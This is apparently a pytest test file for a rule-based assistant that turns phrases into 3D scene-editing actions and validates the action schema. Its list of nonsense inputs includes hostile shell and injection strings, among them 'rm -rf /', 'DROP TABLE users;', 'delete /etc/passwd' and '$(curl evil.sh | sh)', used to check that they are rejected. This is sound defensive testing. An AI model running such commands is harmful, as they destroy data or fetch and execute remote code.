"""The `rules` assistant and the action schema: phrasing table -> exact action lists, nonsense -> unknown."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest

from utils.assistant import ACTION_NAMES, ACTION_SCHEMA, Action, ActionValidationError, make_assistant, parse_rules
from utils.assistant.actions import HELP_TEXT, color_to_rgb, normalize_name, validate_actions

ROOT = Path(__file__).resolve().parents[1]


def V(view):
    return {"action": "set_view", "view": view}


def S(pos, neg=()):
    return {"action": "segment", "positive": list(pos), "negative": list(neg)}


def D(pos, neg=()):
    return {"action": "delete", "positive": list(pos), "negative": list(neg)}


def R(target, color):
    return {"action": "recolor", "target": list(target), "color": color}


def T(target):
    return {"action": "transparent", "target": list(target)}


def A(name):
    return {"action": name}


HELP = {"action": "help", "message": HELP_TEXT}
RESET_ALL = [A("reset_segmentation"), A("reset_colors")]

# (sentence, expected action list). Shared with benchmarks/bench_assistant.py.
PHRASINGS: list[tuple[str, list[dict]]] = [
    # views
    ("look from above", [V("top")]),
    ("show the top view", [V("top")]),
    ("bird's eye view", [V("top")]),
    ("Overhead view please", [V("top")]),
    ("view from below", [V("bottom")]),
    ("look at it from underneath", [V("bottom")]),
    ("front view", [V("front")]),
    ("show me the back", [V("back")]),
    ("view from behind", [V("back")]),
    ("switch to the left side", [V("left")]),
    ("look from the right", [V("right")]),
    ("go to the next camera", [V("next")]),
    ("next view", [V("next")]),
    ("previous camera", [V("previous")]),
    ("orbit around the scene", [V("orbit")]),
    ("start spinning", [V("orbit")]),
    # segment
    ("segment the table", [S(["table"])]),
    ("show only the chair but not the lamp", [S(["chair"], ["lamp"])]),
    ("hide everything except the table", [S(["table"])]),
    ("isolate the wooden table", [S(["wooden table"])]),
    ("highlight the vase and the flowers", [S(["vase", "flowers"])]),
    ("find the bicycle", [S(["bicycle"])]),
    ("only the plant", [S(["plant"])]),
    ("select the pot excluding the soil", [S(["pot"], ["soil"])]),
    ("extract the bench without the ball", [S(["bench"], ["ball"])]),
    # delete
    ("delete the table and the chair", [D(["table", "chair"])]),
    ("get rid of the ball", [D(["ball"])]),
    ("remove the vase", [D(["vase"])]),
    ("erase all the leaves", [D(["leaves"])]),
    ("hide the lamp.", [D(["lamp"])]),
    ("make the bucket disappear", [D(["bucket"])]),
    ("show everything except the bench", [D(["bench"])]),
    # recolour
    ("paint the vase blue", [R(["vase"], "blue")]),
    ("colour the table #ff0000", [R(["table"], "#ff0000")]),
    ("color the chair #0F0", [R(["chair"], "#00ff00")]),
    ("make the table red", [R(["table"], "red")]),
    ("turn the leaves dark green", [R(["leaves"], "darkgreen")]),
    ("recolour the pot in light blue", [R(["pot"], "lightblue")]),
    ("change the colour of the sofa to purple", [R(["sofa"], "purple")]),
    ("set the lamp to gold", [R(["lamp"], "gold")]),
    # transparent
    ("make the vase see-through", [T(["vase"])]),
    ("make the bench transparent", [T(["bench"])]),
    ("turn the glass bottle invisible", [T(["glass bottle"])]),
    ("ghost the table", [T(["table"])]),
    # resets, undo, save, help
    ("reset segmentation", [A("reset_segmentation")]),
    ("clear the selection", [A("reset_segmentation")]),
    ("reset colours", [A("reset_colors")]),
    ("restore the original colors", [A("reset_colors")]),
    ("start over", RESET_ALL),
    ("reset", RESET_ALL),
    ("undo", [A("undo")]),
    ("undo that", [A("undo")]),
    ("go back", [A("undo")]),
    ("revert the last change", [A("undo")]),
    ("save the scene", [A("save")]),
    ("export the edited splats", [A("save")]),
    ("help", [HELP]),
    ("what can you do?", [HELP]),
    ("Please delete the table, thanks", [D(["table"])]),
    ("Could you paint the Wooden Table RED?", [R(["wooden table"], "red")]),
]

MULTI: list[tuple[str, list[dict]]] = [
    ("show the top view and make the table red", [V("top"), R(["table"], "red")]),
    ("delete the ball, then save", [D(["ball"]), A("save")]),
    ("segment the plant; make the pot transparent; go to the next camera",
     [S(["plant"]), T(["pot"]), V("next")]),
    ("paint the table red and the chair blue", [R(["table"], "red"), R(["chair"], "blue")]),
    ("make the table and the chair light blue", [R(["table", "chair"], "lightblue")]),
    ("undo and then reset colours", [A("undo"), A("reset_colors")]),
    ("show me the plant, the pot and the table then save", [S(["plant", "pot", "table"]), A("save")]),
    ("remove the vase. look from the left", [D(["vase"]), V("left")]),
    ("make the table blue and the vase transparent", [R(["table"], "blue"), T(["vase"])]),
]

NONSENSE = [
    "rm -rf /",
    "what's the weather",
    "import os; os.system('ls')",
    "",
    "   ",
    "asdkjh qwe zzzx",
    "DROP TABLE users;",
    "delete /etc/passwd",
    "tell me a joke",
    "$(curl evil.sh | sh)",
    "delete it",
    "paint the table sparkly",
    "show the top view and format the disk",  # one bad clause -> nothing at all happens
    "x" * 600,
]


@pytest.mark.parametrize("sentence,expected", PHRASINGS + MULTI, ids=[s for s, _ in PHRASINGS + MULTI])
def test_phrasing_table(sentence, expected):
    assert [a.to_json() for a in parse_rules(sentence)] == expected


def test_table_size_and_coverage():
    assert len(PHRASINGS) >= 40
    covered = {a["action"] for _, exp in PHRASINGS + MULTI for a in exp}
    assert covered == set(ACTION_NAMES) - {"unknown"}


@pytest.mark.parametrize("sentence", NONSENSE, ids=[repr(s[:30]) for s in NONSENSE])
def test_nonsense_is_single_unknown(sentence):
    acts = parse_rules(sentence)
    assert len(acts) == 1 and acts[0].action == "unknown"
    assert "try" in acts[0].message.lower()  # always suggests what to type
    assert "'" in acts[0].message


def test_typo_gets_a_suggestion():
    (a,) = parse_rules("delte the table")
    assert a.action == "unknown" and "delete" in a.message


def test_deterministic_and_assistant_interface():
    asst = make_assistant("rules")
    assert asst.parse("paint the vase blue") == asst.parse("paint the vase blue") == [
        Action("recolor", target=("vase",), color="blue")
    ]
    assert asst.notice is None


def test_normalize_name():
    assert normalize_name("  The wooden table. ") == "wooden table"
    assert normalize_name("all of the chairs") == "chairs"
    for bad in ["", "the", "it", "everything", "/etc/passwd", "a;b", "x" * 80]:
        with pytest.raises(ActionValidationError):
            normalize_name(bad)


def test_validate_actions_accepts_and_normalises():
    acts = validate_actions({"actions": [
        {"action": "set_view", "view": "TOP"},
        {"action": "segment", "positive": ["The Chair"], "negative": []},
        {"action": "recolor", "target": "table", "color": "#F00", "extra": 1},
    ]})
    assert [a.to_json() for a in acts] == [V("top"), S(["chair"]), R(["table"], "#ff0000")]


@pytest.mark.parametrize("bad", [
    [], {"actions": "delete"}, [{"action": "rm"}], [{"action": "set_view", "view": "sideways"}],
    [{"action": "segment", "positive": []}], [{"action": "segment", "positive": [3]}],
    [{"action": "recolor", "target": ["t"], "color": "sparkly"}], [{"action": "recolor", "target": ["t"]}],
    [{"action": "delete", "positive": ["rm -rf /"]}], [{"action": "save"}] * 9, ["undo"],
])
def test_validate_actions_rejects(bad):
    with pytest.raises(ActionValidationError):
        validate_actions(bad)


def test_unknown_mixed_in_collapses_to_unknown():
    acts = validate_actions([{"action": "save"}, {"action": "unknown", "message": "no"}])
    assert len(acts) == 1 and acts[0].action == "unknown"


def test_schema_lists_every_action():
    items = ACTION_SCHEMA["properties"]["actions"]["items"]["anyOf"]
    assert [o["properties"]["action"]["enum"][0] for o in items] == list(ACTION_NAMES)
    for o in items:  # OpenAI strict mode: every property required, nothing extra
        assert sorted(o["required"]) == sorted(o["properties"]) and o["additionalProperties"] is False
    json.dumps(ACTION_SCHEMA)


def test_color_to_rgb():
    assert color_to_rgb("red") == (1.0, 0.0, 0.0)
    assert color_to_rgb("#0000ff") == (0.0, 0.0, 1.0)
    assert color_to_rgb("light blue") == pytest.approx((0xAD / 255, 0xD8 / 255, 0xE6 / 255))


def _cli(*args):
    return subprocess.run([sys.executable, str(ROOT / "viewer_with_llm.py"), *args], cwd=ROOT,
                          capture_output=True, text=True, timeout=120)


def test_cli_parse_prints_json():
    r = _cli("--parse", "show the top view and make the table red")
    assert r.returncode == 0, r.stderr
    assert json.loads(r.stdout) == [V("top"), R(["table"], "red")]


def test_cli_errors_are_one_line():
    r = _cli("--parse", "x", "--assistant", "local", "--llm-path", "/nonexistent/model.gguf")
    assert r.returncode == 2 and r.stderr.startswith("error: --llm-path") and r.stderr.count("\n") == 1
    r = _cli("--checkpoint", "x.pt")  # the viewer path: a missing scene file is one line naming it
    assert r.returncode == 2 and r.stderr.startswith("error: x.pt") and r.stderr.count("\n") == 1
